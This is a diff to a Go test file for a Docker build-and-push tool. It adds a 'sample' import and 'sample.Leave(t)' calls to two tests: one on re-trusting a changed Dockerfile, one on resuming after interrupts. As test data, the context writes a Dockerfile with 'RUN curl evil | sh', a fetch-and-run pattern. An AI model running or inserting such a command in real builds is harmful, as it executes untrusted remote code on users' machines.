@@ -15,6 +15,7 @@ import (
 	"github.com/dlwb/dlwb/internal/fakeecr"
 	"github.com/dlwb/dlwb/internal/fakesagemaker"
 	"github.com/dlwb/dlwb/internal/jobstory"
+	"github.com/dlwb/dlwb/internal/sample"
 )
 
 // withDocker is a project whose image is built from a Dockerfile, by a docker of tests.
@@ -129,6 +130,7 @@ func TestWhatAnImageNeedsIsSaidByThePlan(t *testing.T) {
 
 // What a person trusts has the Dockerfile in it: another one is to be trusted anew.
 func TestAnotherDockerfileIsTrustedAnew(t *testing.T) {
+	sample.Leave(t)
 	p, docker := withDocker(t)
 	p.Write("Dockerfile", "FROM scratch\nRUN curl evil | sh\n")
 	out, err := p.Try("run", "--plain", "--down")
@@ -143,6 +145,7 @@ func TestAnotherDockerfileIsTrustedAnew(t *testing.T) {
 // dlwb is interrupted, or killed, while it builds or pushes: docker ends with the one
 // that is interrupted, and the next run goes on in either case.
 func TestTheNextRunGoesOnWhereOneBuilt(t *testing.T) {
+	sample.Leave(t)
 	for _, by := range []syscall.Signal{syscall.SIGINT, syscall.SIGKILL} {
 		for _, at := range []string{"build", "push"} {
 			t.Run(fmt.Sprint(by, " at ", at), func(t *testing.T) {
